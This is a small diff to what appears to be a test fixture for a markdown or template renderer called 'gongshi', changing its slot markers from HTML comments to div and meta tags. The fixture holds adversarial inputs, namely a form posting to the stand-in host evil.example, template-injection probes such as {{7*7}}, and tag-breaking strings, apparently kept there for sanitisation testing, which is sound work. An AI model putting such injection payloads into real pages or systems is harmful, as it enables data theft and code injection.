@@ -71,7 +71,7 @@ MARKDOWN = """\
 
 <form action="https://evil.example/"><input name=q><button>送</button></form>
 
-<!--gongshi:main--> <!--gongshi:head--> <!--gongshi:title--> {{7*7}} ${7*7} ]]> </article></main></body></html>
+<div id="gongshi-slot-main"></div> <meta name="gongshi-slot-head"> gongshi-slot-title {{7*7}} ${7*7} ]]> </article></main></body></html>
 
 | 列 |
 | --- |
